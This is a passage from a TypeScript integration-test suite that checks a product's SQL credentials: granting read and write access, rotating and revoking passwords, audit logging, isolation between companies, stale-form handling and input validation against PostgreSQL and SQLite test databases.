import { execFile } from "node:child_process";
import { promisify } from "node:util";
import pg from "pg";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_COMPANIES } from "../../../../../scripts/demo-data.ts";
import type { IssuedSqlCredential, SqlCredential } from "../../../../../contracts/sql-access.ts";
import { auditWriteLabel } from "../../../../../contracts/values/sql-access.ts";
import { TEST_DATABASE_KINDS, TEST_POSTGRES_ADMIN_URL, testSessionUrl } from "../../../../shared/testing/databases.ts";
import { asProjectOwner } from "../../data-plane/project-databases.ts";
import { SQL_CREDENTIAL_GONE_MESSAGE } from "../workspaces/sql-permissions.ts";
import { DUPLICATE_SERVICE_NAME_MESSAGE } from "./sql-credentials.ts";
import { scramVerifier } from "../../data-plane/sql-logins.ts";
import { shareTablesOfSqlLogins } from "../../share-login-tables.ts";
import { createLogger } from "../../../../shared/logger.ts";
import { TEST_DATABASE_SERVER, USERS, createTestApi, type TestApi } from "../../testing/harness.ts";
import { loadableProject, makeApplication, makeProject } from "../../testing/project-fixtures.ts";

const [, acme, birch] = DEMO_COMPANIES;
const run = promisify(execFile);
const hasPsql = await run("psql", ["--version"]).then(
  () => true,
  () => false,
);

const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);

/** Connects as the credential with node-postgres, runs `sql`, and says what happened: rows, or the server's refusal. */
async function asCredential(uri: string, sql: string): Promise<{ rows: unknown[] } | { error: string }> {
  const client = new pg.Client({ connectionString: uri, connectionTimeoutMillis: 5000 });
  try {
    await client.connect();
  } catch (err) {
    return { error: `connect: ${(err as Error).message}` };
  }
  try {
    return { rows: (await client.query(sql)).rows };
  } catch (err) {
    return { error: (err as Error).message };
  } finally {
    await client.end().catch(() => undefined);
  }
}

describe.skipIf(!TEST_POSTGRES_ADMIN_URL).each(TEST_DATABASE_KINDS)("SQL access on %s", (kind) => {
  let api: TestApi;
  let admin: string;
  let owner: string;
  let project: { id: string; name: string };
  let otherProject: { id: string };
  let birchApplication: string;
  beforeAll(async () => {
    api = await createTestApi(kind);
    admin = await api.tokenFor(USERS.superAdmin);
    owner = await api.tokenFor(USERS.clientAdmin);
    birchApplication = (await makeApplication(api, birch.id)).id;
    project = await loadableProject(api, owner, { companyId: birch.id, applicationId: birchApplication });
    await asProjectOwner(api.dataPlane, TEST_DATABASE_SERVER, project.id, (c) =>
      c.query(`insert into source."Customers" values (1, '007', 10, null), (2, 'B', 20, null)`),
    );
    const acmeApplication = (await makeApplication(api, acme.id)).id;
    otherProject = await loadableProject(api, admin, { companyId: acme.id, applicationId: acmeApplication });
  });
  afterAll(() => api?.close());

  const create = (body: object, token = admin) => api.send("POST", "/api/v1/sql-credentials", token, { companyId: birch.id, expiresOn: inDays(30), ...body });
  const permissions = (projectId = project.id, token = owner) => api.get(`/api/v1/projects/${projectId}/sql-permissions`, token);
  const setLevel = (credentialId: string, level: string, was: string, projectId = project.id, token = owner) =>
    api.send("PUT", `/api/v1/projects/${projectId}/sql-permissions`, token, { entries: [{ credentialId, level, was }] });
  /** The URI of the credential for `projectId`'s database, from the details shown once. */
  const uriFor = (issued: IssuedSqlCredential, projectId = project.id) =>
    testSessionUrl(issued.credential.login, issued.password, `dt_${projectId.replaceAll("-", "")}`);
  /** As an older product left a login granted Write: without default privileges for what it makes in the project's database. */
  const withoutDefaultPrivileges = (login: string, projectId: string) => {
    const roles = `dt_${projectId.replaceAll("-", "")}`;
    return api.dataPlane.withAdmin(TEST_DATABASE_SERVER, roles, async (c) => {
      const inDestination = `ALTER DEFAULT PRIVILEGES FOR ROLE ${login} IN SCHEMA destination`;
      await c.query(`${inDestination} REVOKE SELECT ON TABLES FROM ${roles}_owner, ${roles}_reader`);
      await c.query(`${inDestination} REVOKE INSERT, UPDATE, DELETE ON TABLES FROM ${roles}_writer`);
      await c.query(`${inDestination} REVOKE USAGE, SELECT ON SEQUENCES FROM ${roles}_writer`);
    });
  };
  /** A table of the project's destination database as its databases page lists it: its rows counted only if the project may read it. */
  const destinationTable = async (name: string, projectId = project.id) =>
    ((await api.get(`/api/v1/projects/${projectId}/databases`, admin)).body.databases[1].tables as { name: string }[]).find((t) => t.name === name);
  const sharingPassAtStart = () => shareTablesOfSqlLogins(api.db, api.dataPlane, createLogger("test", "silent"));

  it("a credential goes from None to Read to Write, its password rotates and the old one stops working, then it is revoked; the audit log shows each step", async () => {
    const created = await create({ serviceName: "Power BI gateway", note: "finance dashboards" });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const issued = created.body as IssuedSqlCredential;
    expect(issued.credential).toMatchObject({ name: "Power BI gateway", status: "Active", databases: [], userId: null });
    expect(issued.password.length).toBeGreaterThanOrEqual(20);
    expect(issued.connection).toMatchObject({ user: issued.credential.login, uris: [] });
    // Never again: the list does not carry it.
    const listed = await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin);
    expect(JSON.stringify(listed.body)).not.toContain(issued.password);
    expect(listed.body.items.map((c: SqlCredential) => c.login)).toContain(issued.credential.login);

    // None: it cannot even connect.
    const uri = uriFor(issued);
    expect(await asCredential(uri, "select 1")).toMatchObject({ error: expect.stringContaining("permission denied for database") });

    // Read: selects the source rows as stored, cannot insert.
    const page = await permissions();
    expect(page.body.items.find((i: { credentialId: string }) => i.credentialId === issued.credential.id)).toMatchObject({ level: "none", status: "Active" });
    expect((await setLevel(issued.credential.id, "read", "none")).status).toBe(200);
    expect(await asCredential(uri, `select "CustomerId", "Code" from "Customers" order by 1`)).toEqual({
      rows: [
        { CustomerId: 1, Code: "007" },
        { CustomerId: 2, Code: "B" },
      ],
    });
    expect(await asCredential(uri, `insert into destination."Customers" values (9, 'X', 1, null)`)).toMatchObject({
      error: expect.stringContaining("permission denied"),
    });
    // The list now tells where it connects (no password).
    const withDatabase = (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.items.find(
      (c: SqlCredential) => c.id === issued.credential.id,
    ) as SqlCredential;
    expect(withDatabase.databases).toEqual([
      expect.objectContaining({ workspaceId: project.id, level: "read", database: `dt_${project.id.replaceAll("-", "")}` }),
    ]);

    // A stale page is refused and changes nothing.
    const stale = await setLevel(issued.credential.id, "write", "none");
    expect(stale.status).toBe(409);
    expect((await permissions()).body.items.find((i: { credentialId: string }) => i.credentialId === issued.credential.id).level).toBe("read");

    // Write: inserts into destination, creates a table there.
    expect((await setLevel(issued.credential.id, "write", "read")).status).toBe(200);
    expect(await asCredential(uri, `insert into destination."Customers" values (9, 'X', 1, null)`)).toEqual({ rows: [] });
    expect(await asCredential(uri, `create table destination.scratch (id serial, note text)`)).toEqual({ rows: [] });
    expect(await asCredential(uri, `insert into destination.scratch (note) values ('kept'), ('also kept')`)).toEqual({ rows: [] });
    // A table the login made before the project shared what it makes (an older product): granting Write again shares it too.
    await api.dataPlane.withAdmin(TEST_DATABASE_SERVER, `dt_${project.id.replaceAll("-", "")}`, (c) =>
      c.query(
        `ALTER DEFAULT PRIVILEGES FOR ROLE ${issued.credential.login} IN SCHEMA destination REVOKE SELECT ON TABLES FROM dt_${project.id.replaceAll("-", "")}_owner`,
      ),
    );
    expect(await asCredential(uri, `create table destination.older (id int)`)).toEqual({ rows: [] });
    expect(await asCredential(uri, `insert into destination.older values (1)`)).toEqual({ rows: [] });
    expect((await api.get(`/api/v1/projects/${project.id}/databases`, admin)).body.databases[1].tables).toContainEqual(
      expect.objectContaining({ name: "older", rowCountEstimated: true }),
    );
    expect((await setLevel(issued.credential.id, "read", "write")).status).toBe(200);
    expect((await setLevel(issued.credential.id, "write", "read")).status).toBe(200);
    // Those tables are the login's, yet the project reads them as its own: the databases page counts their rows,
    // and a backup takes them (it left them out without a word, and before that failed: "permission denied").
    const databases = await api.get(`/api/v1/projects/${project.id}/databases`, admin);
    expect(databases.status).toBe(200);
    expect(databases.body.databases[1].tables).toContainEqual(expect.objectContaining({ name: "scratch", rowCount: 2, rowCountEstimated: false }));
    expect(databases.body.databases[1].tables).toContainEqual(expect.objectContaining({ name: "older", rowCount: 1, rowCountEstimated: false }));
    expect(databases.body.databases[1].tables).toContainEqual(expect.objectContaining({ name: "Customers", rowCountEstimated: false }));
    const backup = await api.send("POST", `/api/v1/projects/${project.id}/backups`, admin, {});
    expect(backup.status).toBe(202);
    await api.jobs.idle();
    const entry = (await api.get(`/api/v1/projects/${project.id}/history/${backup.body.entry.id}`, admin)).body;
    expect(entry.entry).toMatchObject({ type: "Backup", status: "Completed" });
    expect(entry.backup).toMatchObject({ status: "Ready", tableCount: 6 });
    // Another credential with Read reads them, as it reads the project's own tables.
    const reader = (await create({ serviceName: "Reader of scratch" })).body as IssuedSqlCredential;
    expect((await setLevel(reader.credential.id, "read", "none")).status).toBe(200);
    expect(await asCredential(uriFor(reader), `select note from destination.scratch order by id`)).toEqual({ rows: [{ note: "kept" }, { note: "also kept" }] });
    expect(await asCredential(uriFor(reader), `delete from destination.scratch`)).toMatchObject({ error: expect.stringContaining("permission denied") });
    // The rows the source already holds: the other tests read them.
    const load = await api.postForm(`/api/v1/projects/${project.id}/flat-file/loads`, admin, {
      file: { name: "customers.csv", content: "CustomerId,Code,Balance\n1,007,10\n2,B,20\n" },
      table: "Customers",
    });
    expect(load.status).toBe(202);
    const loadId = (load.body as { load: { id: string } }).load.id;
    await api.jobs.idle();
    expect((await api.get(`/api/v1/projects/${project.id}/history/${loadId}`, admin)).body.entry).toMatchObject({ status: "Loaded", rowsLoaded: 2 });

    // Rotate: the old password stops working, the new one (shown once) works.
    const rotated = await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/rotate`, admin);
    expect(rotated.status).toBe(200);
    const again = rotated.body as IssuedSqlCredential;
    expect(again.password).not.toBe(issued.password);
    expect(again.connection.uris).toEqual([expect.objectContaining({ workspaceName: project.name })]);
    expect(await asCredential(uri, "select 1")).toMatchObject({ error: expect.stringContaining("password authentication failed") });
    expect(await asCredential(uriFor(again), "select 1 as one")).toEqual({ rows: [{ one: 1 }] });

    // Revoke: an open session ends, and it cannot connect again; its grants are taken back, on the server and on the list.
    const memberships = async () =>
      (
        await api.dataPlane.withAdmin(TEST_DATABASE_SERVER, null, (c) =>
          c.query<{ role: string }>(
            "select r.rolname as role from pg_auth_members m join pg_roles r on r.oid = m.roleid join pg_roles u on u.oid = m.member where u.rolname = $1 and r.rolname like 'dt%'",
            [issued.credential.login],
          ),
        )
      ).rows.map((r) => r.role);
    expect(await memberships()).toHaveLength(1);
    const session = new pg.Client({ connectionString: uriFor(again) });
    await session.connect();
    session.on("error", () => undefined);
    const revoked = await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/revoke`, admin, { reason: "gateway retired" });
    expect(revoked.status).toBe(200);
    expect(revoked.body.credential.status).toBe("Revoked");
    expect(revoked.body.credential.databases).toEqual([]);
    expect(await memberships()).toEqual([]);
    const revokedList = (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}&status=Revoked&pageSize=100`, admin)).body.items;
    expect(revokedList.find((c: SqlCredential) => c.id === issued.credential.id).databases).toEqual([]);
    await expect(session.query("select 1")).rejects.toThrow();
    await session.end().catch(() => undefined);
    expect(await asCredential(uriFor(again), "select 1")).toMatchObject({ error: expect.stringContaining("not permitted to log in") });
    expect((await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/rotate`, admin)).status).toBe(409);
    // A revoked credential is no longer offered on the permissions page.
    expect((await permissions()).body.items.map((i: { credentialId: string }) => i.credentialId)).not.toContain(issued.credential.id);
    // A page from before the revocation is told so at the top: nothing is applied.
    expect(await setLevel(issued.credential.id, "none", "read")).toMatchObject({ status: 404, body: { errors: [SQL_CREDENTIAL_GONE_MESSAGE] } });

    // Each step is in the audit log, with its reason, never the password.
    const log = await api.get(`/api/v1/audit-log?companyId=${birch.id}&contains=${issued.credential.login}`, admin);
    expect(log.status).toBe(200);
    expect(log.body.items.map((e: { action: string }) => e.action)).toEqual([
      "sql_credential.revoked",
      "sql_credential.rotated",
      "sql_permission.changed",
      "sql_permission.changed",
      "sql_permission.changed",
      "sql_permission.changed",
      "sql_credential.created",
    ]);
    expect(log.body.items[0]).toMatchObject({ reason: "gateway retired", userId: USERS.superAdmin.id, companyId: birch.id });
    expect(log.body.items[2]).toMatchObject({ workspaceId: project.id, summary: expect.objectContaining({ level: { before: "read", after: "write" } }) });
    expect(JSON.stringify(log.body)).not.toContain(issued.password);
    expect(JSON.stringify(log.body)).not.toContain(again.password);
    // Who made them: by part of the name the page shows, in any case, or by the user's id.
    const whose = `/api/v1/audit-log?companyId=${birch.id}&contains=${issued.credential.login}`;
    for (const who of [(log.body.items[0].userName as string).slice(-12).toUpperCase(), USERS.superAdmin.id]) {
      expect((await api.get(`${whose}&who=${encodeURIComponent(who)}`, admin)).body.total).toBe(
        log.body.items.filter((e: { userId: string }) => e.userId === USERS.superAdmin.id).length,
      );
    }
    expect((await api.get(`${whose}&who=nobody`, admin)).body.total).toBe(0);

    // The export has the same entries as CSV.
    const csv = await api.app.request(`/api/v1/audit-log.csv?companyId=${birch.id}&contains=${issued.credential.login}`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines[0]).toBe("at,company_id,workspace_id,workspace_name,user_id,user_name,action,target,summary,reason");
    expect(lines).toHaveLength(8);
    expect(lines[1]).toContain("sql_credential.revoked");
    expect(lines[1]).toContain("gateway retired");
  });

  it.skipIf(!hasPsql)("psql connects with a credential granted Read and reads the source rows; an expired credential cannot connect", async () => {
    const issued = (await create({ userId: USERS.clientAdmin.id })).body as IssuedSqlCredential;
    expect(issued.credential.name).toBe(USERS.clientAdmin.name);
    expect((await setLevel(issued.credential.id, "read", "none")).status).toBe(200);
    const { stdout } = await run("psql", [uriFor(issued), "-XAtc", `select "Code" from "Customers" order by "CustomerId"`]);
    expect(stdout.trim().split("\n")).toEqual(["007", "B"]);
    // Expiry is the server's: a credential past its day is refused by PostgreSQL itself.
    await api.dataPlane.withAdmin(TEST_DATABASE_SERVER, null, (c) => c.query(`alter role ${issued.credential.login} valid until '2000-01-01'`));
    await expect(run("psql", [uriFor(issued), "-XAtc", "select 1"])).rejects.toMatchObject({
      stderr: expect.stringContaining("password authentication failed"),
    });
  });

  it("a table a credential made before the project shared them is shared at start, without saving Write again; a later start skips the workspace", async () => {
    const issued = (await create({ serviceName: "Older ETL" })).body as IssuedSqlCredential;
    expect((await setLevel(issued.credential.id, "write", "none")).status).toBe(200);
    await withoutDefaultPrivileges(issued.credential.login, project.id);
    const uri = uriFor(issued);
    expect(await asCredential(uri, `create table destination.made_before (id int)`)).toEqual({ rows: [] });
    expect(await asCredential(uri, `insert into destination.made_before values (1), (2)`)).toEqual({ rows: [] });
    expect(await destinationTable("made_before")).toMatchObject({ rowCountEstimated: true });

    expect(await sharingPassAtStart()).toBeGreaterThanOrEqual(1);
    // The project reads it as its own (its rows counted), and what the login makes from now on too.
    expect(await destinationTable("made_before")).toMatchObject({ rowCount: 2, rowCountEstimated: false });
    expect(await asCredential(uri, `create table destination.made_after (id int)`)).toEqual({ rows: [] });
    expect(await destinationTable("made_after")).toMatchObject({ rowCount: 0, rowCountEstimated: false });
    // The workspace is marked done: the next start shares nothing again, and nothing it shared changes.
    expect(await api.db.selectFrom("sql_login_tables_shared").select("project_id").where("project_id", "=", project.id).execute()).toHaveLength(1);
    expect(await sharingPassAtStart()).toBe(0);
    expect(await destinationTable("made_before")).toMatchObject({ rowCount: 2, rowCountEstimated: false });
  });

  it("a table made by a credential set back to None since is shared at start too, though no permission names the workspace any more", async () => {
    const retired = await loadableProject(api, owner, { companyId: birch.id, applicationId: birchApplication });
    const issued = (await create({ serviceName: "Retired ETL" })).body as IssuedSqlCredential;
    expect((await setLevel(issued.credential.id, "write", "none", retired.id)).status).toBe(200);
    await withoutDefaultPrivileges(issued.credential.login, retired.id);
    const uri = uriFor(issued, retired.id);
    expect(await asCredential(uri, `create table destination.made_then (id int)`)).toEqual({ rows: [] });
    expect(await asCredential(uri, `insert into destination.made_then values (1), (2), (3)`)).toEqual({ rows: [] });
    expect((await setLevel(issued.credential.id, "none", "write", retired.id)).status).toBe(200);
    expect(await api.db.selectFrom("sql_permissions").select("credential_id").where("project_id", "=", retired.id).execute()).toEqual([]);
    expect(await destinationTable("made_then", retired.id)).toMatchObject({ rowCountEstimated: true });
    // A workspace the pass cannot reach (its server gone) is left for the next start, not marked done.
    const unreachable = await makeProject(api, owner, { companyId: birch.id, applicationId: birchApplication });
    await api.db.updateTable("projects").set({ database_server: "gone" }).where("id", "=", unreachable.id).execute();
    const marked = () => api.db.selectFrom("sql_login_tables_shared").select("project_id").where("project_id", "in", [retired.id, unreachable.id]).execute();

    expect(await sharingPassAtStart()).toBeGreaterThanOrEqual(1);
    expect(await destinationTable("made_then", retired.id)).toMatchObject({ rowCount: 3, rowCountEstimated: false });
    expect(await marked()).toEqual([{ project_id: retired.id }]);
    expect(await sharingPassAtStart()).toBe(0);
    expect(await marked()).toEqual([{ project_id: retired.id }]);
    await api.db.updateTable("projects").set({ database_server: null }).where("id", "=", unreachable.id).execute();
  });

  it("a save from a stale page names the credential and whose change made it stale: the user's other tab, or someone else", async () => {
    const issued = (await create({ serviceName: "Stale pages" })).body as IssuedSqlCredential;
    const staleAnswer = async (level: string, was: string) => (await setLevel(issued.credential.id, level, was)).body.errors;
    const what = `SQL permission of Stale pages (${issued.credential.login})`;
    expect((await setLevel(issued.credential.id, "read", "none")).status).toBe(200);
    // The owner's own save made the level there now.
    expect(await staleAnswer("write", "none")).toEqual([
      expect.stringMatching(
        new RegExp(`^You changed the ${what.replace(/[()]/g, "\\$&")} in another tab or window at \\d\\d:\\d\\d UTC\\. Nothing was saved\\.$`),
      ),
    ]);
    // An administrator's.
    expect((await setLevel(issued.credential.id, "write", "read", project.id, admin)).status).toBe(200);
    expect(await staleAnswer("none", "read")).toEqual([`The ${what} was changed by someone else. Nothing was saved.`]);
    // None has no row, so who set it is not known: never 'You changed'.
    expect((await setLevel(issued.credential.id, "none", "write")).status).toBe(200);
    expect(await staleAnswer("write", "read")).toEqual([`The ${what} was changed by someone else. Nothing was saved.`]);
    const levelNow = (await permissions()).body.items.find((i: { credentialId: string }) => i.credentialId === issued.credential.id).level;
    expect(levelNow).toBe("none");
  });

  it("a save sent again after it succeeded (a double submit, Back and resend) answers 200 and changes nothing; a level changed meanwhile to another is still refused", async () => {
    const issued = (await create({ serviceName: "Permissions saved twice" })).body as IssuedSqlCredential;
    const levelNow = async () => (await permissions()).body.items.find((i: { credentialId: string }) => i.credentialId === issued.credential.id).level;
    const first = await setLevel(issued.credential.id, "read", "none");
    expect(first.status).toBe(200);
    expect(first.body.changed).toBe(1);
    const again = await setLevel(issued.credential.id, "read", "none");
    expect(again.status, JSON.stringify(again.body)).toBe(200);
    // It says it changed nothing: the portal says so rather than "saved".
    expect(again.body.changed).toBe(0);
    expect(again.body.items.find((i: { credentialId: string }) => i.credentialId === issued.credential.id).level).toBe("read");
    // Changed nothing, so audited nothing: one entry for the first save only.
    const audited = (await api.get(`/api/v1/audit-log?companyId=${birch.id}&action=sql_permission.changed&contains=${issued.credential.login}`, admin)).body;
    expect(audited.total).toBe(1);
    // Another level than the one the page showed and than the one asked for: refused, nothing changed.
    expect((await setLevel(issued.credential.id, "write", "none")).status).toBe(409);
    expect(await levelNow()).toBe("read");
  });

  it("a credential of one company reaches no other company's project, and another company's credential or project answers 404", async () => {
    const issued = (await create({ serviceName: "ETL" })).body as IssuedSqlCredential;
    expect((await setLevel(issued.credential.id, "write", "none")).status).toBe(200);
    // Its login cannot connect to Acme's project database.
    expect(await asCredential(uriFor(issued, otherProject.id), "select 1")).toMatchObject({ error: expect.stringContaining("permission denied for database") });
    // Acme's project does not offer Birch's credential, and refuses it by id.
    expect((await permissions(otherProject.id, admin)).body.items.map((i: { credentialId: string }) => i.credentialId)).not.toContain(issued.credential.id);
    const gone = { status: 404, body: { errors: [SQL_CREDENTIAL_GONE_MESSAGE] } };
    expect(await setLevel(issued.credential.id, "read", "none", otherProject.id, admin)).toMatchObject(gone);
    // With one of Acme's own beside it: nothing is applied.
    const acmeCredential = (await create({ companyId: acme.id, serviceName: "Acme ETL" })).body as IssuedSqlCredential;
    const both = await api.send("PUT", `/api/v1/projects/${otherProject.id}/sql-permissions`, admin, {
      entries: [
        { credentialId: acmeCredential.credential.id, level: "read", was: "none" },
        { credentialId: issued.credential.id, level: "read", was: "none" },
      ],
    });
    expect(both).toMatchObject(gone);
    expect((await permissions(otherProject.id, admin)).body.items).toMatchObject([{ credentialId: acmeCredential.credential.id, level: "none" }]);
    // Birch's owner cannot see Acme's project nor manage credentials.
    expect((await permissions(otherProject.id, owner)).status).toBe(404);
    expect((await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, owner)).status).toBe(403);
    expect((await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/rotate`, owner)).status).toBe(403);
    expect((await api.get(`/api/v1/sql-credentials/${issued.credential.id}?companyId=${birch.id}`, owner)).status).toBe(403);
    expect((await api.get(`/api/v1/audit-log`, owner)).status).toBe(403);
    // An admin working in Acme (the portal's page names its company) finds no Birch credential, and its password stays.
    expect((await api.get(`/api/v1/sql-credentials/${issued.credential.id}?companyId=${acme.id}`, admin)).status).toBe(404);
    expect((await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/rotate?companyId=${acme.id}`, admin)).status).toBe(404);
    expect((await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/revoke?companyId=${acme.id}`, admin, { reason: null })).status).toBe(404);
    expect(await asCredential(uriFor(issued), "select 1 as one")).toEqual({ rows: [{ one: 1 }] });
    // In Birch, it is found by its id (the revocation's confirmation, on any page of the list), with its databases; an unknown id is not.
    const found = await api.get(`/api/v1/sql-credentials/${issued.credential.id}?companyId=${birch.id}`, admin);
    expect(found.status).toBe(200);
    expect(found.body.credential).toMatchObject({
      id: issued.credential.id,
      login: issued.credential.login,
      status: "Active",
      databases: [{ workspaceId: project.id, level: "write" }],
    });
    expect(await api.get(`/api/v1/sql-credentials/${crypto.randomUUID()}?companyId=${birch.id}`, admin)).toMatchObject({
      status: 404,
      body: { errors: ["SQL credential not found."] },
    });
    expect((await api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/rotate?companyId=${birch.id}`, admin)).status).toBe(200);
  });

  it("a create form sent again with its id (a reload of the password's page) is refused, naming what it made, and makes nothing more", async () => {
    const id = crypto.randomUUID();
    const first = await create({ id, serviceName: "Sent twice" });
    expect(first.status).toBe(201);
    expect(first.body.credential.id).toBe(id);
    const before = (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.total;
    const again = await create({ id, serviceName: "Sent twice" });
    expect(again.status).toBe(409);
    expect(again.body).toMatchObject({ code: "already_made" });
    expect(again.body.errors[0]).toMatch(
      new RegExp(
        `^This form was sent already: SQL credential ${first.body.credential.login} for Sent twice was made by it at \\d\\d:\\d\\d UTC\\. Nothing more was made; its password was shown then: rotate it to get a new one\\.$`,
      ),
    );
    // Sent twice at once: one is made.
    const twin = crypto.randomUUID();
    const both = await Promise.all([create({ id: twin, serviceName: "Twice at once" }), create({ id: twin, serviceName: "Twice at once" })]);
    expect(both.map((r) => r.status).sort()).toEqual([201, 409]);
    expect((await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.total).toBe(before + 1);
    // Another company's id answers as an unknown credential: not that it exists, nor when it was made.
    const foreign = await api.send("POST", "/api/v1/sql-credentials", admin, { companyId: acme.id, expiresOn: inDays(30), id, serviceName: "Forged" });
    expect(foreign.status).toBe(404);
    expect(foreign.body.errors).toEqual(["SQL credential not found."]);
    expect((await create({ id: "not-a-uuid", serviceName: "Mangled" })).status).toBe(400);
  });

  it("a second credential for a service of a name the company's credentials hold (in any case) is refused at the name with 409, until the first is revoked", async () => {
    const first = (await create({ serviceName: "Nightly etl_job" })).body as IssuedSqlCredential;
    const total = async () => (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.total;
    const before = await total();
    for (const serviceName of ["Nightly etl_job", "  NIGHTLY ETL_JOB "]) {
      const again = await create({ serviceName });
      expect(again.status, serviceName).toBe(409);
      expect(again.body).toMatchObject({ code: "duplicate_name", fieldErrors: { serviceName: [DUPLICATE_SERVICE_NAME_MESSAGE] } });
    }
    expect(await total()).toBe(before);
    // Another company's credential of that name is no matter; a revoked one's name is free for its replacement.
    expect((await create({ companyId: acme.id, serviceName: "Nightly etl_job" })).status).toBe(201);
    expect((await api.send("POST", `/api/v1/sql-credentials/${first.credential.id}/revoke`, admin, { reason: null })).status).toBe(200);
    expect((await create({ serviceName: "nightly ETL_job" })).status).toBe(201);
  });

  // SQLite runs one write at a time, so there two creates never race past the check; PostgreSQL does not.
  it.skipIf(kind === "sqlite")(
    "a create that passes the name's check while another credential of that name is being made is refused at the name with 409 once that one commits",
    async () => {
      const total = async () => (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.total;
      const before = await total();
      const at = new Date().toISOString();
      let answer: Awaited<ReturnType<typeof create>> | undefined;
      let sent: Promise<unknown> = Promise.resolve();
      // The other create, held between its insert and its commit: the check of the one sent meanwhile does not see it.
      await api.db.transaction().execute(async (trx) => {
        await trx
          .insertInto("sql_credentials")
          .values({
            id: "racing-create",
            company_id: birch.id,
            login: "dt_racing_create",
            user_id: null,
            name: "Racing job",
            name_key: "racing job",
            name_sort: "racing job",
            note: null,
            expires_on: inDays(30),
            created_at: at,
            created_by: USERS.superAdmin.id,
            password_set_at: at,
            last_used_at: null,
            revoked_at: null,
            revoked_by: null,
          })
          .execute();
        sent = create({ serviceName: "RACING job " }).then((r) => (answer = r));
        // Until it waits for the held row's transaction (or has answered, which the expectation below then shows).
        for (let waited = 0; waited < 100 && !answer; waited++) {
          const { rows } = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity
            where wait_event_type = 'Lock' and query ilike 'insert into "sql_credentials"%'`.execute(api.db);
          if (rows[0]!.n > 0) break;
          await new Promise((resolve) => setTimeout(resolve, 50));
        }
        expect(answer).toBeUndefined();
      });
      await sent;
      expect(answer!.status, JSON.stringify(answer!.body)).toBe(409);
      expect(answer!.body).toMatchObject({ code: "duplicate_name", fieldErrors: { serviceName: [DUPLICATE_SERVICE_NAME_MESSAGE] } });
      expect(await total()).toBe(before + 1);
      await api.db.deleteFrom("sql_credentials").where("id", "=", "racing-create").execute();
    },
  );

  it("the credentials list sorted by name, and a workspace's SQL permissions, come in natural order, whatever the case", async () => {
    const names = ["Sorted svc 10", "sorted svc 2", "Sorted svc 1", "SORTED svc 9", "sorted alpha"];
    const made: string[] = [];
    for (const serviceName of names) made.push(((await create({ serviceName })).body as IssuedSqlCredential).credential.id);
    const ours = (items: { id?: string; credentialId?: string; name: string }[]) =>
      items.filter((i) => made.includes(i.id ?? i.credentialId!)).map((i) => i.name);
    const natural = ["sorted alpha", "Sorted svc 1", "sorted svc 2", "SORTED svc 9", "Sorted svc 10"];
    const listed = (sort: string) => api.get(`/api/v1/sql-credentials?companyId=${birch.id}&sort=${sort}&pageSize=100`, admin);
    expect(ours((await listed("name")).body.items)).toEqual(natural);
    expect(ours((await listed("-name")).body.items)).toEqual([...natural].reverse());
    expect(ours((await permissions()).body.items)).toEqual(natural);
    for (const id of made) await api.send("POST", `/api/v1/sql-credentials/${id}/revoke`, admin, { reason: null });
  });

  it("a rotation from a page that has not seen the one made since (another tab, another admin) is refused, and the password handed out then still works", async () => {
    const issued = (await create({ serviceName: "Rotated twice" })).body as IssuedSqlCredential;
    const rotate = (passwordSetAt: string) =>
      api.send("POST", `/api/v1/sql-credentials/${issued.credential.id}/rotate?passwordSetAt=${encodeURIComponent(passwordSetAt)}`, admin);
    const first = await rotate(issued.credential.passwordSetAt);
    expect(first.status).toBe(200);
    const stale = await rotate(issued.credential.passwordSetAt);
    expect(stale.status).toBe(409);
    expect(stale.body).toMatchObject({ code: "stale_version" });
    expect(stale.body.errors[0]).toMatch(
      new RegExp(`^The password of ${issued.credential.login} was rotated meanwhile, at \\d\\d:\\d\\d UTC: nothing was changed\\.`),
    );
    const listed = (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.items.find(
      (c: { id: string }) => c.id === issued.credential.id,
    );
    expect(listed.passwordSetAt).toBe((first.body as IssuedSqlCredential).credential.passwordSetAt);
    // The password handed out by the first rotation still logs in (granted nothing: refused by the database, not the password).
    expect(await asCredential(uriFor(first.body as IssuedSqlCredential), "select 1")).toMatchObject({
      error: expect.stringContaining("permission denied for database"),
    });
  });

  it("bad input is refused naming the field, and nothing is made", async () => {
    const before = (await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.total;
    const past = await create({ serviceName: "Late", expiresOn: "2001-01-01" });
    expect(past.status).toBe(400);
    expect(past.body.fieldErrors.expiresOn).toEqual(["The expiry date cannot be in the past"]);
    const neither = await create({});
    expect(neither.body.fieldErrors.userId).toEqual(["Choose a user, or name a service"]);
    expect((await create({ serviceName: "Never", expiresOn: "2027-02-30" })).body.fieldErrors.expiresOn).toEqual(["Give a real date"]);
    // A day that does not exist is a 400 naming the filter, not a failed query (it answered 500).
    for (const filter of ["to=2020-13-45", "from=2021-02-29"]) {
      const log = await api.get(`/api/v1/audit-log?${filter}`, admin);
      expect(log.status).toBe(400);
      expect(Object.keys(log.body.fieldErrors)).toEqual([filter.split("=")[0]]);
    }
    // From after To: a filter nothing could match, refused next to From (the portal says so without asking).
    const backwards = await api.get(`/api/v1/audit-log?from=2026-11-20&to=2026-11-01`, admin);
    expect(backwards.status).toBe(400);
    expect(backwards.body.fieldErrors).toEqual({ from: ["From must be on or before To."] });
